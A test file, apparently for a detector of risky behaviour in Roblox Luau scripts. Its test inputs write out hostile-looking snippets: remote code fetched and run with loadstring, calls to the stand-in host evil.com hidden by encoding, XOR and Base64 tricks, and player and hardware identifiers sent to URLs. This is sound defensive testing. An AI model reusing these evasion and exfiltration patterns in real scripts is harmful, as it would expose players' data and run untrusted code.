@@ -1,0 +1,274 @@
+import { describe, expect, test } from 'vitest'
+import { analyze, type CapabilityId } from '../src/index.ts'
+
+const WEBHOOK = `https://discord.com/api/webhooks/123456789012345678/${'abcdefghijklmnop'.repeat(4)}`
+const send = (url: string) => `request({Url = ${url}, Method = "POST", Body = "x"})`
+
+/** Ids with their certainties. */
+const found = (code: string): string[] => analyze(code).capabilities.map(({ id, certainty }) => `${id}:${certainty}`)
+const detailOf = (code: string, id: CapabilityId) =>
+  analyze(code)
+    .capabilities.find((finding) => finding.id === id)
+    ?.evidence.map(({ line, detail }) => `${line} ${detail}`)
+const hostsOf = (code: string) => analyze(code).hosts.map(({ host }) => host)
+
+describe('each capability', () => {
+  test.each<[CapabilityId, string]>([
+    ['net.get', 'local x = game:HttpGet("https://a.com")'],
+    ['net.get', 'game:GetService("HttpService"):GetAsync("https://a.com")'],
+    ['net.get', 'request({Url = "https://a.com"})'],
+    ['net.get', 'local r = http_request({Url = "https://a.com", Method = "get"})'],
+    ['net.send', send('"https://a.com"')],
+    ['net.send', 'game:GetService("HttpService"):PostAsync("https://a.com", "x")'],
+    ['net.send', 'game.HttpService:RequestAsync({Url = "https://a.com", Method = "DELETE"})'],
+    ['net.webhook', send(`"${WEBHOOK}"`)],
+    ['net.webhook', 'game:HttpGet("https://api.telegram.org/bot" .. token .. "/sendMessage")'],
+    ['net.exfiltration', 'game:HttpGet("https://a.com/?n=" .. game.Players.LocalPlayer.Name)'],
+    ['net.exfiltration', 'request({Url = u, Method = "POST", Body = game.HttpService:JSONEncode({id = game.JobId})})'],
+    ['net.socket', 'WebSocket.connect("wss://a.com")'],
+    ['code.remote', 'loadstring(game:HttpGet("https://a.com"))()'],
+    ['code.dynamic', 'loadstring(readfile("a.lua"))()'],
+    ['code.asset', 'require(123456)'],
+    ['code.asset', 'game:GetObjects("rbxassetid://1")'],
+    ['code.persist', 'queue_on_teleport("print(1)")'],
+    ['fs.read', 'print(isfile("a"))'],
+    ['fs.write', 'makefolder("a")'],
+    ['fs.delete', 'delfile("a")'],
+    ['user.clipboard', 'setclipboard("a")'],
+    ['user.identity', 'print(gethwid())'],
+    ['user.identity', 'game:GetService("RbxAnalyticsService"):GetClientId()'],
+    ['user.identity', 'game:HttpGet("https://api.ipify.org")'],
+    ['user.input', 'mouse1click()'],
+    ['user.input', 'game:GetService("VirtualInputManager"):SendKeyEvent(true, "W", false, game)'],
+    ['user.purchase', 'game:GetService("MarketplaceService"):PromptGamePassPurchase(p, 1)'],
+    ['user.key', 'local box = Instance.new("TextBox") box.Text = "https://linkvertise.com/1"'],
+    ['user.key', 'game:HttpGet("https://api.platoboost.com/public/start")'],
+    ['game.remote', 'game.ReplicatedStorage.Remotes.Buy:FireServer(1)'],
+    ['game.teleport', 'game:GetService("TeleportService"):Teleport(1)'],
+    ['game.chat', 'game.ReplicatedStorage.DefaultChatSystemChatEvents.SayMessageRequest:FireServer("hi", "All")'],
+    ['game.chat', 'game:GetService("TextChatService").TextChannels.RBXGeneral:SendAsync("hi")'],
+    ['game.kick', 'game.Players.LocalPlayer:Kick("no")'],
+    ['client.hook', 'hookmetamethod(game, "__namecall", function(...) end)'],
+    ['client.inspect', 'for _, v in pairs(getgc(true)) do print(v) end'],
+    ['needs.executor', 'print(gethui())'],
+    ['shape.secret', `local hook = "${WEBHOOK}"`],
+  ])('%s is found in %s', (id, code) => {
+    expect(found(code)).toContain(`${id}:code`)
+  })
+
+  test('shape.minified is found in code without line breaks', () => {
+    const code = Array.from({ length: 80 }, (_, index) => `local a${index}=${index}`).join(' ')
+    expect(found(code)).toEqual(['shape.minified:code'])
+  })
+
+  test('shape.obfuscated is found with the name of the tool', () => {
+    const names = ['IlIlIlIl', 'lIlIlIlI', 'IIlIllIl', 'lIIlIlll']
+    const line = names.map((name, index) => `local ${name}={${index},${index},${index},"\\104\\101"}`).join(';')
+    const code = `-- This file was protected by MoonSec V3\n${line.repeat(20)}`
+    expect(analyze(code).obfuscator).toBe('MoonSec')
+    expect(found(code)).toContain('shape.obfuscated:code')
+  })
+})
+
+const BASE64_DECODER = `
+local b = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
+local function decode(data)
+  data = string.gsub(data, '[^' .. b .. '=]', '')
+  return (data:gsub('.', function(x)
+    if x == '=' then return '' end
+    local r, f = '', b:find(x) - 1
+    for i = 6, 1, -1 do r = r .. (f % 2 ^ i - f % 2 ^ (i - 1) > 0 and '1' or '0') end
+    return r
+  end):gsub('%d%d%d?%d?%d?%d?%d?%d?', function(x)
+    if #x ~= 8 then return '' end
+    local c = 0
+    for i = 1, 8 do c = c + (x:sub(i, i) == '1' and 2 ^ (8 - i) or 0) end
+    return string.char(c)
+  end))
+end
+`
+const CODES = [...Buffer.from('https://evil.com/a')]
+const ENCODED = Buffer.from('https://evil.com/a').toString('base64')
+
+describe('a call is found', () => {
+  test.each([
+    ['a local alias', 'local get = game.HttpGet get(game, "https://evil.com/a")'],
+    ['a table field', 'local t = {net = {get = game.HttpGet}} t.net.get(game, "https://evil.com/a")'],
+    ['a later upvalue', 'local url local function go() game:HttpGet(url) end url = "https://evil.com/a" go()'],
+    ['pieces of text', 'game:HttpGet("https://ev" .. "il.com" .. "/a")'],
+    ['string.char', `game:HttpGet(string.char(${CODES.join()}))`],
+    ['table.concat', 'game:HttpGet(table.concat({"https:", "", "evil.com", "a"}, "/"))'],
+    ['reversed text', 'game:HttpGet(("a/moc.live//:sptth"):reverse())'],
+    ['names in _G', '_G["game"]["Http" .. "Get"](game, "https://evil.com/a")'],
+    ['getfenv', 'getfenv()["game"]:HttpGet("https://evil.com/a")'],
+    ['getgenv, written before', 'getgenv().u = "https://evil.com/a" game:HttpGet(getgenv().u)'],
+    ['pcall', 'pcall(game.HttpGet, game, "https://evil.com/a")'],
+    ['a function in pcall', 'pcall(function() game:HttpGet("https://evil.com/a") end)'],
+    ['interpolation', 'local host = "evil.com" game:HttpGet(`https://{host}/a`)'],
+    ['string.format', 'game:HttpGet(string.format("https://%s/a", "evil.com"))'],
+    [
+      'XOR',
+      `local o = {} for i, v in ipairs({${CODES.map((code) => code ^ 42).join()}}) do o[i] = string.char(bit32.bxor(v, 42)) end game:HttpGet(table.concat(o))`,
+    ],
+    ['Base64 in Luau', `${BASE64_DECODER} game:HttpGet(decode("${ENCODED}"))`],
+    ['Base64 of the executor', `game:HttpGet(crypt.base64decode("${ENCODED}"))`],
+    [
+      'a metatable',
+      'local t = setmetatable({}, {__index = function(_, k) return "https://evil.com/" .. k end}) game:HttpGet(t.a)',
+    ],
+    [
+      'an object',
+      'local C = {} C.__index = C function C.new(u) return setmetatable({u = u}, C) end function C:go() game:HttpGet(self.u) end C.new("https://evil.com/a"):go()',
+    ],
+    [
+      'a loop over addresses',
+      'for _, u in ipairs({"https://a.com", "https://b.com", "https://evil.com/a"}) do game:HttpGet(u) end',
+    ],
+    ['a coroutine', 'coroutine.wrap(function() game:HttpGet("https://evil.com/a") end)()'],
+    ['a handler', 'b.Activated:Connect(function() game:HttpGet("https://evil.com/a") end)'],
+    ['a function that nothing calls', 'local function f() game:HttpGet("https://evil.com/a") end'],
+    ['a branch that a setting rules out', 'local on = false if on then game:HttpGet("https://evil.com/a") end'],
+    ['text that is loaded', 'loadstring([[game:HttpGet("https://evil.com/a")]])()'],
+    ['text that is loaded in text', 'loadstring("loadstring(\'game:HttpGet([[https://evil.com/a]])\')()")()'],
+    [
+      'a module that text returns',
+      'local m = loadstring("return {get = function(u) return game:HttpGet(u) end}")() m.get("https://evil.com/a")',
+    ],
+    ['one of several functions', 'local get = httpget or function() end get("https://evil.com/a")'],
+  ])('through %s', (_, code) => {
+    expect(found(code)).toContain('net.get:code')
+    expect(hostsOf(code)).toContain('evil.com')
+  })
+
+  test('with each of many addresses that a function of the script gets', () => {
+    const calls = Array.from({ length: 30 }, (_, index) => `get("https://host${index}.com/a", x)`)
+    expect(hostsOf(`local function get(u, n) game:HttpGet(u) end\n${calls.join('\n')}`)).toHaveLength(30)
+  })
+
+  test('as code from the network after a detour through a file', () => {
+    const code = 'local p = "a.lua" if not isfile(p) then writefile(p, game:HttpGet(u)) end loadstring(readfile(p))()'
+    expect(found(code)).toContain('code.remote:code')
+  })
+})
+
+describe('what is only likely', () => {
+  test.each([
+    ['a URL that is not known', 'game:HttpGet(url)', 'net.get:likely'],
+    ['a host that is not known', 'game:HttpGet("https://" .. host .. "/a")', 'net.get:likely'],
+    ['a method that is not known', 'request({Url = "https://a.com", Method = m})', 'net.send:likely'],
+    ['loaded text from anywhere', 'local function run(s) loadstring(s)() end', 'code.dynamic:likely'],
+    ['a kick of something', 'x:Kick()', 'game.kick:likely'],
+    ['a webhook for an unknown function', `send("${WEBHOOK}")`, 'net.webhook:likely'],
+    ['what does not parse', 'local = request({Url = "https://a.com"})', 'net.send:likely'],
+  ])('%s', (_, code, finding) => {
+    expect(found(code)).toContain(finding)
+  })
+})
+
+describe('nothing is found', () => {
+  test.each([
+    ['in a function of the author with a known name', 'local function request(t) return t end request({Url = "x"})'],
+    ['in a parameter with a known name', 'local function f(readfile) return readfile("a") end f(print)'],
+    ['in a global that the author defines', 'function setclipboard(x) return x end setclipboard("a")'],
+    ['in a field with a known name', 'local t = {} function t.loadstring(x) return x end t.loadstring(y)'],
+    ['in comments', '-- game:HttpGet("https://a.com")'],
+    ['in plain code', 'local t = {} for i = 1, 10 do t[i] = i * 2 end print(#t, table.concat(t, ","))'],
+    [
+      'in a decoder in readable code',
+      'local function d(s) return (s:gsub(".", function(c) return string.char(c:byte() - 1) end)) end print(d("ifmmp"))',
+    ],
+    ['in a place id', 'print(game.PlaceId, game.GameId)'],
+    ['in nothing', ''],
+  ])('%s', (_, code) => {
+    expect(found(code)).toEqual([])
+  })
+
+  test('of player data in a request without any', () => {
+    expect(found('game:HttpGet("https://a.com/" .. game.PlaceId)')).toEqual(['net.get:code'])
+  })
+
+  test('of constant text that is loaded, but what it does', () => {
+    expect(found('loadstring("print(1)")()')).toEqual([])
+  })
+})
+
+describe('an executor is needed', () => {
+  test.each([
+    ['if f then', 'if writefile then writefile("a", "b") end'],
+    ['f and f(...)', 'local x = isfile and isfile("a")'],
+    ['f or g', 'local get = httpget or function() end get("https://a.com")'],
+    ['a table and its function', 'local r = syn and syn.request if r then r({Url = "https://a.com"}) end'],
+    ['assert(f)', 'assert(writefile, "no") writefile("a", "b")'],
+    ['pcall(f)', 'pcall(writefile, "a", "b")'],
+    ['type(f)', 'if type(writefile) == "function" then writefile("a", "b") end'],
+    ['a comparison with nil', 'if writefile ~= nil then writefile("a", "b") end'],
+    ['an early return', 'if not writefile then return end writefile("a", "b")'],
+  ])('but not behind %s', (_, code) => {
+    expect(found(code)).not.toContain('needs.executor:code')
+  })
+
+  test('with the list of functions', () => {
+    const code = 'writefile("a", "b")\nprint(gethui())\nif syn then syn.request({}) end'
+    expect(detailOf(code, 'needs.executor')).toEqual(['1 writefile', '2 gethui'])
+  })
+})
+
+describe('evidence', () => {
+  test('has the line of the call, also of a chain', () => {
+    const code = 'local x = game\n  :GetService("HttpService")\n  :GetAsync("https://a.com")'
+    expect(detailOf(code, 'net.get')).toEqual(['3 HttpService:GetAsync https://a.com'])
+  })
+
+  test('of loaded text has the line that loads it', () => {
+    const code = '\n\nlocal f = loadstring("\\n\\n\\nsetclipboard(1)")\nf()'
+    expect(detailOf(code, 'user.clipboard')?.[0]).toMatch(/^3 /)
+  })
+
+  test('masks secrets', () => {
+    const text = JSON.stringify(analyze(`local u = "${WEBHOOK}"\n${send('u')}`))
+    expect(text).toContain('/webhooks/123456789012345678/…')
+    expect(text).not.toContain('mnopab')
+  })
+
+  test('names the data that is sent', () => {
+    const code =
+      'local p = game.Players.LocalPlayer\ngame:HttpGet("https://a.com/" .. p.DisplayName .. p.UserId .. gethwid())'
+    expect(detailOf(code, 'net.exfiltration')).toEqual([
+      '2 game:HttpGet with the display name, the user id, the hardware id',
+    ])
+  })
+
+  test('is at most 20 pieces, with the count of all', () => {
+    const code = Array.from({ length: 30 }, (_, index) => `game:HttpGet("https://a.com/${index}")`).join('\n')
+    const [finding] = analyze(code).capabilities
+    expect(finding).toMatchObject({ id: 'net.get', count: 30 })
+    expect(finding?.evidence).toHaveLength(20)
+  })
+})
+
+describe('what cannot be looked into', () => {
+  test('is counted with a reason', () => {
+    expect(analyze('loadstring(game:HttpGet("https://a.com"))()').opaque).toEqual([
+      { reason: 'Code that is downloaded', count: 1 },
+    ])
+  })
+
+  test.each([
+    ['deep parentheses', `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}`],
+    ['deep tables', `x = ${'{'.repeat(50_000)}${'}'.repeat(50_000)}`],
+    ['deep functions', `${'(function() '.repeat(5_000)}${'end)() '.repeat(5_000)}`],
+    ['endless loops', 'while true do x = x + 1 end'],
+    ['endless recursion', 'local function f(n) return f(n + 1) end f(1)'],
+    ['growing text', 'local s = "x" while true do s = s .. s end'],
+    ['growing tables', 'local t = {} while true do t[#t + 1] = {t} end'],
+    ['exponential calls', 'local function f(n) if n == 0 then return end f(n - 1) f(n - 1) end f(60)'],
+    ['endless metatables', 'local t = {} setmetatable(t, t) t.__index = t print(t.x)'],
+    ['slow patterns', 'print(("a"):rep(5000):find(("a*"):rep(30) .. "b"))'],
+    ['bytes that are no text', '\uD800\0\u{10FFFF}\\'],
+    ['an endless string', 'x = "'],
+    ['branches in loops in branches', `${'if a then for i = 1, b do '.repeat(60)}${'end end '.repeat(60)}`],
+    ['many concatenations', `x = ${'"a" .. '.repeat(100_000)}"b"`],
+  ])('does not stop the analysis: %s', (_, code) => {
+    expect(() => analyze(code, { steps: 20_000, maxSteps: 100_000 })).not.toThrow()
+  })
+})
